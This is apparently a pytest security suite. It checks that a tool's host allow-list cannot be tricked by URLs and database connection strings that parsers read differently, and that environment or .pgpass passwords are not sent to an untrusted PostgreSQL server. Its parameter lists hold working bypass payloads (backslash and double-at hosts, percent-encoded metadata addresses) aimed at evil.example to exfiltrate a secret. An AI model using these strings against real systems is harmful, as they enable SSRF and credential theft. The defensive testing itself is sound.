"""An address that the guard reads in one way and a library in another: nothing is sent, and nobody is reached."""

from __future__ import annotations

import json
import socketserver
import threading
from collections.abc import Iterator

import pytest

from tests.attacks.conftest import NAMES, Network, Victim

pytestmark = pytest.mark.anyio
POINT = "10.A3"
VALUE = "wheatearbrook77"
SLASH = "\\"

WEB = {
    "a backslash before the other host": f"http://good.example{SLASH}@evil.example/rows",
    "a backslash and a slash": f"http://good.example{SLASH}/@evil.example/rows",
    "two at signs": "http://me@good.example@evil.example/rows",
    "a tab": "http://good.example\t@evil.example/rows",
    "a line break in the scheme": "ht\ntp://evil.example/rows",
    "a letter that two standards read in two ways": "http://pre\u00df.example/rows",
}
DATABASES = {
    "two at signs, two hosts": "postgresql://me:${KEY}@evil.example:5432,x@good.example/db",
    "two at signs, brackets": "postgresql://me:${KEY}@[::ffff:1.1.1.1]:5432@good.example/db",
    "a backslash, MySQL": f"mysql://me:${{KEY}}@good.example{SLASH}@evil.example/db",
    "a backslash, PostgreSQL": f"postgresql://me:${{KEY}}@good.example{SLASH}@evil.example/db",
    "a line break in the scheme": "postgres\nql://me:${KEY}@evil.example:5432/db",
    "a metadata address in percent signs": "postgresql://me:${KEY}@169%2E254%2E169%2E254:5432/db",
    "a private address in percent signs": "postgresql://me@10%2E0%2E0%2E5:5432/db",
    "a socket in percent signs": "postgresql://me@%2Fvar%2Frun%2Fpostgresql/db",
}


def bind(victim: Victim, *hosts: str) -> None:
    for host in hosts:
        assert victim.run("secret", "set", "KEY", "--host", host, typed=f"{VALUE}\n").returncode == 0


@pytest.mark.parametrize("endpoint", WEB.values(), ids=list(WEB))
async def test_an_address_with_two_readings_is_not_asked(
    endpoint: str, victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = {**NAMES, "press.example": ["8.8.8.8"], "xn--pre-7ka.example": ["1.1.1.1"], "pre\u00df.example": ["8.8.8.8"]}
    monkeypatch.setenv("ATTACKED_NAMES", json.dumps(names))
    bind(victim, "good.example", "press.example", "localhost")
    async with victim.attacked() as attack:
        await attack.create()
        said = await attack.api(endpoint, headers={"Authorization": "Bearer ${KEY}"})
    assert said.is_error
    assert not network.arrived(VALUE)
    assert not network.reached


@pytest.mark.parametrize("connection", DATABASES.values(), ids=list(DATABASES))
async def test_a_database_is_looked_for_where_the_guard_looked(connection: str, victim: Victim, network: Network) -> None:
    bind(victim, "good.example", "localhost")
    async with victim.attacked() as attack:
        await attack.create()
        said = await attack.source(type="database", connection=connection, query="select 1", retries=0,
                                   connect_timeout_seconds=3)
    assert said.is_error
    assert not network.reached, said.text


@pytest.mark.parametrize("tool", ["try_model", "add_examples"])
async def test_a_model_is_asked_for_at_no_address_with_two_readings(tool: str, victim: Victim, network: Network) -> None:
    bind(victim, "good.example")
    address = WEB["a backslash before the other host"]
    async with victim.attacked() as attack:
        await attack.create()
        victim.plant(victim.inbox / "rows.csv", "text\n" + "".join(f"letter number {n}\n" for n in range(30)))
        await attack.file(victim.inbox / "rows.csv")
        if tool == "try_model":
            await attack("try_model", task="mails", model="m", url=address, api_key="${KEY}", text="hello", confirm=True)
        else:
            await attack("add_examples", task="mails", action="propose", by="endpoint", confirm=True,
                         settings={"model": "m", "base_url": address, "api_key": "${KEY}"})
    assert not network.arrived(VALUE)
    assert not network.reached


@pytest.fixture
def curious(network: Network, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[bytes]]:
    """A PostgreSQL server that asks for the password in plain text, and what it was told."""
    told: list[bytes] = []

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(5)
            if self.request.recv(8) == b"\0\0\0\x08\x04\xd2\x16\x2f":
                self.request.sendall(b"N")
                self.request.recv(4096)
            self.request.sendall(b"R\0\0\0\x08\0\0\0\x03")
            told.append(self.request.recv(4096))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        monkeypatch.setenv("ATTACKED_PORTS", json.dumps({"": network.web.port, "5432": server.server_address[1]}))
        yield told
        server.shutdown()


async def test_a_password_of_the_environment_or_a_file_goes_to_no_database(
    victim: Victim, curious: list[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PGPASSWORD", VALUE)
    file = victim.home / ".pgpass"
    file.write_text(f"*:*:*:*:{VALUE}\n", encoding="utf-8")
    file.chmod(0o600)
    async with victim.attacked() as attack:
        await attack.create()
        await attack.source(type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0)
        monkeypatch.delenv("PGPASSWORD")
        await attack.source(type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0)
    assert curious
    assert not [each for each in curious if VALUE.encode() in each]
